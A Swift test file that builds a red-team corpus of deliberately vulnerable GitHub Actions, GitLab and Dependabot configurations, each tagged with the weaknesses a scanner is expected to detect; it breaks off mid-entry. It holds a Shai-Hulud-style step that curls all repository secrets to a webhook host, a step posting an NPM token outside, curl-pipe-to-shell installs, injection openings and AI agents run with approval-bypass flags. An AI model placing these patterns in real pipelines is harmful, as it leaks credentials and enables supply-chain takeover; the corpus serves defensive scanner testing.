import BulwarkCore
import BulwarkWorkflows
import Testing

/// Red-team corpus: realistic workflows modelled on published incidents and write-ups (GitHub Security Lab
/// "preventing pwn requests", Ultralytics, Nx s1ngularity, tj-actions, reviewdog, Shai-Hulud, zizmor's audit
/// docs and its false-positive reports) plus clean files built to look dangerous. Each file names the weakness
/// kinds it carries; clean files carry none. Scored per file and kind, like the held-out corpus.
struct RedTeamFile {
    var name: String
    var path: String
    var expected: Set<String>
    var text: String
    var clean: Bool { name.hasPrefix("clean/") }
}

let redTeamCorpus: [RedTeamFile] = [
    RedTeamFile(
        name: "weak/ultralytics-prt-head-ref.yml", path: ".github/workflows/format.yml",
        expected: ["workflow-unlocked-install", "workflow-untrusted-checkout", "workflow-template-injection", "workflow-excessive-permissions", "workflow-dangerous-trigger"],
        text: #"""
        name: Ultralytics Actions
        on:
          pull_request_target:
            branches: [main]
            types: [opened, closed, synchronize, review_requested]
        jobs:
          format:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  repository: ${{ github.event.pull_request.head.repo.full_name }}
                  ref: ${{ github.head_ref || github.ref }}
                  token: ${{ secrets.PERSONAL_ACCESS_TOKEN }}
              - name: Commit and push
                run: |
                  git config --global user.name "UltralyticsAssistant"
                  git pull origin ${{ github.head_ref || github.ref }}
                  pip install ruff
                  ruff format .
                  git commit -a -m "Auto-format by Ultralytics actions" && git push
        """#),
    RedTeamFile(
        name: "weak/nx-pr-title-validation.yml", path: ".github/workflows/pr-title.yml",
        expected: ["workflow-template-injection", "workflow-artipacked", "workflow-dangerous-trigger"],
        text: #"""
        name: PR Title Validation
        on:
          pull_request_target:
            types: [opened, edited, synchronize, reopened]
        permissions:
          contents: read
          pull-requests: write
        jobs:
          validate-pr-title:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
              - name: Create PR message file
                run: |
                  mkdir -p ./temp
                  echo "${{ github.event.pull_request.title }}" > ./temp/pr-message.txt
              - name: Validate PR title
                run: node ./scripts/commit-lint.js ./temp/pr-message.txt
        """#),
    RedTeamFile(
        name: "weak/tj-actions-composite.yml", path: ".github/actions/changes/action.yml",
        expected: ["workflow-known-compromised-action", "workflow-unpinned-action"],
        text: #"""
        name: Detect changes
        description: List the files changed in this push
        outputs:
          files:
            value: ${{ steps.changed.outputs.all_changed_files }}
        runs:
          using: composite
          steps:
            - id: changed
              uses: tj-actions/changed-files@v44
              with:
                separator: ","
        """#),
    RedTeamFile(
        name: "weak/reviewdog-shellcheck.yml", path: ".github/workflows/lint.yml",
        expected: ["workflow-known-compromised-action", "workflow-unpinned-action"],
        text: #"""
        name: shellcheck
        on: [pull_request]
        permissions:
          contents: read
        jobs:
          eslint:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              checks: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: reviewdog/action-shellcheck@v1
                with:
                  reporter: github-pr-review
                  github_token: ${{ secrets.GITHUB_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/tj-actions-bad-sha.yml", path: ".github/workflows/changed.yml",
        expected: ["workflow-known-compromised-action"],
        text: #"""
        name: changed
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          changed:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67 # v35
              - run: echo "${{ steps.changed.outputs.all_changed_files }}"
        """#),
    RedTeamFile(
        name: "weak/issue-comment-deploy-pr.yml", path: ".github/workflows/preview-command.yml",
        expected: ["workflow-untrusted-checkout", "workflow-excessive-permissions", "workflow-dangerous-trigger"],
        text: #"""
        name: Preview on command
        on:
          issue_comment:
            types: [created]
        jobs:
          preview:
            if: github.event.issue.pull_request && startsWith(github.event.comment.body, '/preview')
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: refs/pull/${{ github.event.issue.number }}/head
                  persist-credentials: false
              - run: make preview
                env:
                  NETLIFY_AUTH_TOKEN: ${{ secrets.NETLIFY_AUTH_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/workflow-run-artifact-exec.yml", path: ".github/workflows/coverage-comment.yml",
        expected: ["workflow-untrusted-artifact", "workflow-github-env-write", "workflow-dangerous-trigger"],
        text: #"""
        name: Coverage comment
        on:
          workflow_run:
            workflows: ["CI"]
            types: [completed]
        permissions: {}
        jobs:
          comment:
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
              actions: read
            steps:
              - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8
                with:
                  name: coverage
                  run-id: ${{ github.event.workflow_run.id }}
                  github-token: ${{ secrets.GITHUB_TOKEN }}
              - run: echo "PR_NUMBER=$(cat pr_number.txt)" >> "$GITHUB_ENV"
              - run: gh pr comment "$PR_NUMBER" --body-file coverage.md
                env:
                  GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/github-script-comment-body.yml", path: ".github/workflows/triage.yml",
        expected: ["workflow-template-injection", "workflow-dangerous-trigger"],
        text: #"""
        name: Triage
        on:
          issue_comment:
            types: [created]
        permissions: {}
        jobs:
          triage:
            runs-on: ubuntu-latest
            permissions:
              issues: write
            steps:
              - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                with:
                  script: |
                    const body = `${{ github.event.comment.body }}`;
                    if (body.includes('/label')) {
                      await github.rest.issues.addLabels({ ...context.repo, issue_number: context.issue.number, labels: ['triage'] });
                    }
        """#),
    RedTeamFile(
        name: "weak/tojson-secrets-matrix.yml", path: ".github/workflows/deploy.yml",
        expected: ["workflow-overprovisioned-secrets"],
        text: #"""
        name: Deploy
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          deploy:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: ./scripts/deploy.sh
                env:
                  ALL_SECRETS: ${{ toJSON(secrets) }}
        """#),
    RedTeamFile(
        name: "weak/workflow-env-secrets.yml", path: ".github/workflows/nightly.yml",
        expected: ["workflow-secrets-in-workflow-env"],
        text: #"""
        name: Nightly
        on:
          schedule:
            - cron: "0 3 * * *"
        permissions:
          contents: read
        env:
          OPENAI_API_KEY: ${{ secrets.OPENAI_API_KEY }}
          HF_TOKEN: ${{ secrets.HF_TOKEN }}
        jobs:
          eval:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: python -m evals.run --suite nightly
        """#),
    RedTeamFile(
        name: "weak/precommit-plain-http", path: ".pre-commit-config.yaml",
        expected: ["workflow-precommit-insecure-repo"],
        text: #"""
        repos:
          - repo: http://git.example.org/lint/hooks
            rev: 0b3c6f1a9d2e4c5b7a8f9e0d1c2b3a4f5e6d7c8b
            hooks:
              - id: lint
        """#),
    RedTeamFile(
        name: "weak/credential-in-variable.yml", path: ".github/workflows/evals.yml",
        expected: ["workflow-credential-in-variable"],
        text: #"""
        name: Nightly evals
        on:
          schedule:
            - cron: "0 3 * * *"
        permissions:
          contents: read
        jobs:
          evals:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: python -m evals.run --model "$MODEL"
                env:
                  MODEL: ${{ vars.EVAL_MODEL }}
                  ANTHROPIC_API_KEY: ${{ vars.ANTHROPIC_API_KEY }}
        """#),
    RedTeamFile(
        name: "weak/unredacted-fromjson.yml", path: ".github/workflows/cloud.yml",
        expected: ["workflow-unredacted-secrets"],
        text: #"""
        name: Cloud deploy
        on:
          push:
            tags: ["v*"]
        permissions:
          contents: read
        jobs:
          deploy:
            runs-on: ubuntu-latest
            steps:
              - run: ./deploy --client-id "$CLIENT_ID"
                env:
                  CLIENT_ID: ${{ fromJSON(secrets.AZURE_CREDENTIALS).clientId }}
                  CLIENT_SECRET: ${{ fromJSON(secrets.AZURE_CREDENTIALS).clientSecret }}
        """#),
    RedTeamFile(
        name: "weak/insecure-commands-env.yml", path: ".github/workflows/legacy.yml",
        expected: ["workflow-insecure-commands"],
        text: #"""
        name: Legacy build
        on: [push]
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            env:
              ACTIONS_ALLOW_UNSECURE_COMMANDS: true
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: echo "::add-path::$HOME/.local/bin"
        """#),
    RedTeamFile(
        name: "weak/container-password.yml", path: ".github/workflows/integration.yml",
        expected: ["workflow-hardcoded-container-credentials", "workflow-unpinned-image"],
        text: #"""
        name: Integration
        on: [push]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            container:
              image: registry.example.com/ci/builder:latest
              credentials:
                username: ci-bot
                password: Sup3rS3cret!
            steps:
              - run: make integration
        """#),
    RedTeamFile(
        name: "weak/self-hosted-pull-request.yml", path: ".github/workflows/gpu-tests.yml",
        expected: ["workflow-self-hosted-runner"],
        text: #"""
        name: GPU tests
        on:
          pull_request:
            branches: [main]
        permissions:
          contents: read
        jobs:
          gpu:
            runs-on: [self-hosted, linux, gpu]
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: pytest tests/gpu
        """#),
    RedTeamFile(
        name: "weak/dependabot-insecure.yml", path: ".github/dependabot.yml",
        expected: ["workflow-dependabot-insecure-execution", "workflow-dependabot-cooldown"],
        text: #"""
        version: 2
        updates:
          - package-ecosystem: bundler
            directory: "/"
            insecure-external-code-execution: allow
            schedule:
              interval: daily
          - package-ecosystem: github-actions
            directory: "/"
            schedule:
              interval: weekly
        """#),
    RedTeamFile(
        name: "weak/shai-hulud-exfil.yml", path: ".github/workflows/shai-hulud-workflow.yml",
        expected: ["workflow-campaign-indicator", "workflow-overprovisioned-secrets"],
        text: #"""
        name: Shai-Hulud Workflow
        on: push
        jobs:
          process:
            runs-on: ubuntu-latest
            steps:
              - run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7; echo "$CONTENTS" | base64 -w 0 | base64 -w 0
                env:
                  CONTENTS: ${{ toJSON(secrets) }}
        """#),
    RedTeamFile(
        name: "weak/shai-hulud-discussion.yml", path: ".github/workflows/discussion.yaml",
        expected: ["workflow-campaign-indicator", "workflow-template-injection", "workflow-self-hosted-runner", "workflow-excessive-permissions", "workflow-artipacked"],
        text: #"""
        name: Discussion Create
        on:
          discussion:
        jobs:
          process:
            env:
              RUNNER_TRACKING_ID: 0
            runs-on: self-hosted
            steps:
              - uses: actions/checkout@v5
              - name: Handle Discussion
                run: echo ${{ github.event.discussion.body }}
        """#),
    RedTeamFile(
        name: "weak/bot-condition-prt.yml", path: ".github/workflows/dependabot-lockfile.yml",
        expected: ["workflow-unlocked-install", "workflow-bot-condition", "workflow-untrusted-checkout", "workflow-dangerous-trigger"],
        text: #"""
        name: Update yarn.lock for Dependabot
        on:
          pull_request_target:
            branches: ["dependabot/**"]
        permissions: {}
        jobs:
          fix-lockfile:
            runs-on: ubuntu-latest
            permissions:
              contents: write
            if: github.actor == 'dependabot[bot]'
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: ${{ github.event.pull_request.head.ref }}
              - run: yarn install --mode=update-lockfile
              - run: |
                  git add yarn.lock
                  git commit -m "Update yarn.lock" && git push
        """#),
    RedTeamFile(
        name: "weak/unsound-condition-folded.yml", path: ".github/workflows/release-gate.yml",
        expected: ["workflow-unsound-condition"],
        text: #"""
        name: Release gate
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          release:
            if: |
              ${{ github.ref == 'refs/heads/release' }}
            runs-on: ubuntu-latest
            steps:
              - run: ./scripts/release.sh
        """#),
    RedTeamFile(
        name: "weak/unsound-contains-string.yml", path: ".github/workflows/deploy-branches.yml",
        expected: ["workflow-unsound-contains"],
        text: #"""
        name: Deploy branches
        on: [push]
        permissions:
          contents: read
        jobs:
          deploy:
            if: contains('refs/heads/main refs/heads/staging', github.ref)
            runs-on: ubuntu-latest
            steps:
              - run: ./deploy.sh
        """#),
    RedTeamFile(
        name: "weak/npm-release-cache.yml", path: ".github/workflows/release.yml",
        expected: ["workflow-cache-poisoning", "workflow-long-lived-publish-token"],
        text: #"""
        name: Release
        on:
          push:
            tags: ["v*"]
        permissions:
          contents: read
        jobs:
          publish:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
                with:
                  node-version: 20
                  cache: npm
                  registry-url: https://registry.npmjs.org
              - run: npm ci
              - run: npm publish
                env:
                  NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/pypi-password.yml", path: ".github/workflows/pypi.yml",
        expected: ["workflow-long-lived-publish-token"],
        text: #"""
        name: Upload Python Package
        on:
          release:
            types: [published]
        permissions:
          contents: read
        jobs:
          deploy:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: actions/setup-python@0b93645e9fea7318ecaed2b359559ac225c90a2b # v5.3.0
                with:
                  python-version: "3.x"
              - run: python -m pip install --require-hashes -r requirements/build.txt && python -m build
              - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc # v1.12.4
                with:
                  user: __token__
                  password: ${{ secrets.PYPI_API_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/artipacked-site.yml", path: ".github/workflows/site.yml",
        expected: ["workflow-artipacked"],
        text: #"""
        name: Site
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
              - run: make site
              - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
                with:
                  name: site
                  path: .
        """#),
    RedTeamFile(
        name: "weak/third-party-main.yml", path: ".github/workflows/notify.yml",
        expected: ["workflow-unpinned-action"],
        text: #"""
        name: Notify
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          notify:
            runs-on: ubuntu-latest
            steps:
              - uses: rtCamp/action-slack-notify@master
                env:
                  SLACK_MESSAGE: "Build finished"
        """#),
    RedTeamFile(
        name: "weak/ref-version-mismatch.yml", path: ".github/workflows/tests.yml",
        expected: ["workflow-ref-version-mismatch"],
        text: #"""
        name: Tests
        on: [push]
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@f43a0e5ff2bd294095638e18286ca9a3d1956744 # v4.2.2
                with:
                  persist-credentials: false
              - run: make test
        """#),
    RedTeamFile(
        name: "weak/typosquat-checkout.yml", path: ".github/workflows/build.yml",
        expected: ["workflow-typosquatted-action", "workflow-unpinned-action"],
        text: #"""
        name: Build
        on: [push]
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - uses: actons/checkout@v4
              - run: make
        """#),
    RedTeamFile(
        name: "weak/unlocked-installs-mixed.yml", path: ".github/workflows/tools.yml",
        expected: ["workflow-unlocked-install"],
        text: #"""
        name: Tools
        on: [push]
        permissions:
          contents: read
        jobs:
          tools:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: |
                  cargo install cargo-deny
                  go install golang.org/x/vuln/cmd/govulncheck@latest
                  pip install -r requirements.txt
        """#),
    RedTeamFile(
        name: "weak/curl-pipe-variants.yml", path: ".github/workflows/setup.yml",
        expected: ["workflow-curl-pipe-shell"],
        text: #"""
        name: Setup tools
        on: [push]
        permissions:
          contents: read
        jobs:
          setup:
            runs-on: ubuntu-latest
            steps:
              - run: curl -sSL https://install.python-poetry.org | python3 -
              - run: bash <(curl -s https://codecov.io/bash)
        """#),
    RedTeamFile(
        name: "weak/hf-cli-download.yml", path: ".github/workflows/eval.yml",
        expected: ["workflow-unpinned-model-download", "workflow-trust-remote-code"],
        text: #"""
        name: Model eval
        on:
          workflow_dispatch:
        permissions:
          contents: read
        jobs:
          eval:
            runs-on: ubuntu-latest
            steps:
              - run: huggingface-cli download mistralai/Mistral-7B-v0.1 --local-dir ./model
              - run: |
                  python - <<'EOF2'
                  from transformers import AutoModelForCausalLM
                  model = AutoModelForCausalLM.from_pretrained("microsoft/phi-2", trust_remote_code=True)
                  EOF2
        """#),
    RedTeamFile(
        name: "weak/claude-issue-comment.yml", path: ".github/workflows/claude.yml",
        expected: ["workflow-ai-agent-untrusted-trigger", "workflow-dangerous-trigger"],
        text: #"""
        name: Claude Code
        on:
          issue_comment:
            types: [created]
          issues:
            types: [opened]
        permissions:
          contents: write
          issues: write
          pull-requests: write
          id-token: write
        jobs:
          claude:
            if: contains(github.event.comment.body, '@claude') || contains(github.event.issue.body, '@claude')
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - uses: anthropics/claude-code-action@8a953dedf2e2ffb2a0ba3e47b5f6bc3dcdf30b40 # v1.0.3
                with:
                  anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}
                  # Without this the action refuses actors lacking write access (issue 17); with it,
                  # anyone can prompt an agent in tag mode holding a contents: write token.
                  allowed_non_write_users: "*"
        """#),
    RedTeamFile(
        name: "weak/codex-prt-bypass.yml", path: ".github/workflows/codex-review.yml",
        expected: ["workflow-ai-agent-untrusted-trigger", "workflow-ai-agent-permission-bypass", "workflow-dangerous-trigger"],
        text: #"""
        name: Codex review
        on:
          pull_request_target:
            types: [opened]
        permissions: {}
        jobs:
          review:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              pull-requests: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: npm i -g @openai/codex@0.46.0
              - run: codex exec --dangerously-bypass-approvals-and-sandbox "Review PR #$PR and post comments"
                env:
                  PR: ${{ github.event.pull_request.number }}
                  OPENAI_API_KEY: ${{ secrets.OPENAI_API_KEY }}
        """#),
    RedTeamFile(
        name: "weak/unused-id-token-job.yml", path: ".github/workflows/unit.yml",
        expected: ["workflow-unused-id-token"],
        text: #"""
        name: Unit
        on: [push]
        permissions:
          contents: read
        jobs:
          unit:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              id-token: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: make test
        """#),
    RedTeamFile(
        name: "weak/step-debug-env.yml", path: ".github/workflows/debug.yml",
        expected: ["workflow-step-debug-forced"],
        text: #"""
        name: Debug build
        on: [push]
        permissions:
          contents: read
        env:
          ACTIONS_STEP_DEBUG: true
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: make
        """#),
    RedTeamFile(
        name: "weak/secrets-inherit-reusable.yml", path: ".github/workflows/call-deploy.yml",
        expected: ["workflow-secrets-inherit", "workflow-self-repository-ref"],
        text: #"""
        name: Call deploy
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          deploy:
            uses: ./.github/workflows/deploy-reusable.yml
            secrets: inherit
        """#),
    RedTeamFile(
        name: "weak/gitlab-unpinned.yml", path: ".gitlab-ci.yml",
        expected: ["workflow-gitlab-unpinned-include", "workflow-unpinned-image", "workflow-curl-pipe-shell", "workflow-unlocked-install"],
        text: #"""
        include:
          - remote: https://gitlab.com/acme/ci-templates/-/raw/main/python.yml
          - project: acme/ci-templates
            file: /templates/docker.yml
        image: python:3.12
        test:
          script:
            - curl -fsSL https://get.example.dev/install.sh | sh
            - pip install -r requirements.txt
            - pytest
        """#),
    RedTeamFile(
        name: "weak/github-env-branch-prt.yml", path: ".github/workflows/label-branch.yml",
        expected: ["workflow-github-env-write", "workflow-dangerous-trigger"],
        text: #"""
        name: Branch info
        on: pull_request_target
        permissions: {}
        jobs:
          info:
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
            steps:
              - run: echo "BRANCH=$HEAD_REF" >> "$GITHUB_ENV"
                env:
                  HEAD_REF: ${{ github.event.pull_request.head.ref }}
              - run: gh pr edit "$NUMBER" --add-label "branch:$BRANCH"
                env:
                  NUMBER: ${{ github.event.pull_request.number }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "weak/secrets-third-party.yml", path: ".github/workflows/cd.yml",
        expected: ["workflow-secrets-to-unpinned-action", "workflow-unpinned-action"],
        text: #"""
        name: CD
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          deploy:
            runs-on: ubuntu-latest
            steps:
              - uses: appleboy/ssh-action@v1
                with:
                  host: ${{ secrets.HOST }}
                  key: ${{ secrets.SSH_KEY }}
                  script: cd /srv/app && git pull && systemctl restart app
        """#),
    RedTeamFile(
        name: "weak/write-all-push.yml", path: ".github/workflows/bump.yml",
        expected: ["workflow-excessive-permissions"],
        text: #"""
        name: Bump
        on:
          push:
            branches: [main]
        permissions: write-all
        jobs:
          bump:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: ./scripts/bump.sh
        """#),
    RedTeamFile(
        name: "weak/prt-merge-ref-test.yml", path: ".github/workflows/e2e.yml",
        expected: ["workflow-untrusted-checkout", "workflow-excessive-permissions", "workflow-dangerous-trigger"],
        text: #"""
        name: E2E
        on:
          pull_request_target:
            types: [labeled]
        jobs:
          e2e:
            if: github.event.label.name == 'run-e2e'
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: refs/pull/${{ github.event.pull_request.number }}/merge
                  persist-credentials: false
              - run: npm ci && npm run e2e
                env:
                  E2E_API_KEY: ${{ secrets.E2E_API_KEY }}
        """#),
    RedTeamFile(
        name: "weak/gemini-issues-yolo.yml", path: ".github/workflows/gemini-triage.yml",
        expected: ["workflow-ai-agent-untrusted-trigger", "workflow-ai-agent-permission-bypass"],
        text: #"""
        name: Gemini triage
        on:
          issues:
            types: [opened]
        permissions: {}
        jobs:
          triage:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              issues: write
            steps:
              - run: npx --yes @google/gemini-cli@0.9.0 --yolo -p "Triage issue $ISSUE and apply labels"
                env:
                  ISSUE: ${{ github.event.issue.number }}
                  GEMINI_API_KEY: ${{ secrets.GEMINI_API_KEY }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "weak/dependabot-no-cooldown.yml", path: ".github/dependabot.yml",
        expected: ["workflow-dependabot-cooldown"],
        text: #"""
        version: 2
        updates:
          - package-ecosystem: pip
            directory: "/"
            schedule:
              interval: daily
        """#),
    RedTeamFile(
        name: "weak/secret-body-host.yml", path: ".github/workflows/telemetry.yml",
        expected: ["workflow-secret-sent-to-host"],
        text: #"""
        name: Telemetry
        on: [push]
        permissions:
          contents: read
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: curl -s -X POST -d "token=${{ secrets.NPM_TOKEN }}&repo=${{ github.repository }}" https://metrics.example-collector.io/ingest
        """#),
    RedTeamFile(
        name: "weak/head-commit-message-run.yml", path: ".github/workflows/changelog.yml",
        expected: ["workflow-template-injection"],
        text: #"""
        name: Changelog
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        jobs:
          log:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  echo "Last commit: ${{ github.event.head_commit.message }}" >> CHANGELOG.tmp
        """#),
    RedTeamFile(
        name: "weak/review-comment-injection.yml", path: ".github/workflows/review-bot.yml",
        expected: ["workflow-template-injection"],
        text: #"""
        name: Review bot
        on:
          pull_request_review_comment:
            types: [created]
        permissions:
          contents: read
        jobs:
          bot:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  BODY="${{ github.event.comment.body }}"
                  ./bot.sh "$BODY"
        """#),
    RedTeamFile(
        name: "weak/composite-input-injection.yml", path: ".github/actions/greet/action.yml",
        expected: ["workflow-template-injection"],
        text: #"""
        name: Greet
        description: Greets the pull request author
        inputs:
          title:
            description: PR title
        runs:
          using: composite
          steps:
            - shell: bash
              run: echo "Thanks for ${{ github.event.pull_request.title }}"
        """#),
    RedTeamFile(
        name: "weak/workflow-run-checkout-head.yml", path: ".github/workflows/post-ci.yml",
        expected: ["workflow-untrusted-checkout", "workflow-dangerous-trigger"],
        text: #"""
        name: Post CI
        on:
          workflow_run:
            workflows: [CI]
            types: [completed]
        permissions: {}
        jobs:
          post:
            runs-on: ubuntu-latest
            permissions:
              statuses: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: ${{ github.event.workflow_run.head_sha }}
                  persist-credentials: false
              - run: ./scripts/report.sh
                env:
                  STATUS_TOKEN: ${{ secrets.STATUS_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/prt-gh-pr-checkout.yml", path: ".github/workflows/bench-pr.yml",
        expected: ["workflow-untrusted-checkout", "workflow-dangerous-trigger"],
        text: #"""
        name: Benchmark PR
        on: pull_request_target
        permissions: {}
        jobs:
          bench:
            runs-on: ubuntu-latest
            permissions:
              pull-requests: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  persist-credentials: false
              - run: gh pr checkout "$PR" && npm ci && npm run bench
                env:
                  PR: ${{ github.event.pull_request.number }}
                  GH_TOKEN: ${{ github.token }}
        """#),
    RedTeamFile(
        name: "weak/prt-local-action.yml", path: ".github/workflows/pr-lint.yml",
        expected: ["workflow-untrusted-checkout", "workflow-dangerous-trigger", "workflow-self-repository-ref"],
        text: #"""
        name: PR lint
        on: pull_request_target
        permissions: {}
        jobs:
          lint:
            runs-on: ubuntu-latest
            permissions:
              contents: read
              checks: write
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                with:
                  ref: ${{ github.event.pull_request.head.sha }}
                  persist-credentials: false
              - uses: ./.github/actions/lint
                with:
                  token: ${{ secrets.GITHUB_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/workflow-run-head-branch-run.yml", path: ".github/workflows/deploy-preview.yml",
        expected: ["workflow-template-injection", "workflow-dangerous-trigger"],
        text: #"""
        name: Deploy preview
        on:
          workflow_run:
            workflows: [Build]
            types: [completed]
        permissions: {}
        jobs:
          deploy:
            runs-on: ubuntu-latest
            permissions:
              deployments: write
            steps:
              - run: ./scripts/deploy-preview.sh "${{ github.event.workflow_run.head_branch }}"
                env:
                  VERCEL_TOKEN: ${{ secrets.VERCEL_TOKEN }}
        """#),
    RedTeamFile(
        name: "weak/review-body-script.yml", path: ".github/workflows/review-commands.yml",
        expected: ["workflow-template-injection"],
        text: #"""
        name: Review commands
        on:
          pull_request_review:
            types: [submitted]
        permissions:
          contents: read
        jobs:
          cmd:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                with:
                  script: |
                    const label = "${{ github.event.pull_request.head.label }}";
                    const review = "${{ github.event.review.body }}";
                    core.info(label + review);
        """#),
    RedTeamFile(
        name: "weak/docker-uses-tag.yml", path: ".github/workflows/docker-step.yml",
        expected: ["workflow-unpinned-image"],
        text: #"""
        name: Docker step
        on: [push]
        permissions:
          contents: read
        jobs:
          lint:
            runs-on: ubuntu-latest
            services:
              redis:
                image: redis:latest
            steps:
              - uses: docker://hadolint/hadolint:latest
                with:
                  args: hadolint Dockerfile
        """#),
    RedTeamFile(
        name: "weak/job-write-all.yml", path: ".github/workflows/sync.yml",
        expected: ["workflow-excessive-permissions"],
        text: #"""
        name: Sync
        on:
          schedule:
            - cron: "0 * * * *"
        permissions:
          contents: read
        jobs:
          sync:
            runs-on: ubuntu-latest
            permissions: write-all
            steps:
              - run: ./sync.sh
        """#),
    RedTeamFile(
        name: "weak/external-reusable-inherit.yml", path: ".github/workflows/org-release.yml",
        expected: ["workflow-secrets-inherit", "workflow-unpinned-action"],
        text: #"""
        name: Org release
        on:
          push:
            tags: ["v*"]
        permissions:
          contents: read
        jobs:
          release:
            uses: acme-platform/shared-workflows/.github/workflows/release.yml@v2
            secrets: inherit
        """#),
    RedTeamFile(
        name: "weak/nodesource-sudo-pipe.yml", path: ".github/workflows/node-legacy.yml",
        expected: ["workflow-curl-pipe-shell"],
        text: #"""
        name: Node legacy
        on: [push]
        permissions:
          contents: read
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -
                  sudo apt-get install -y nodejs
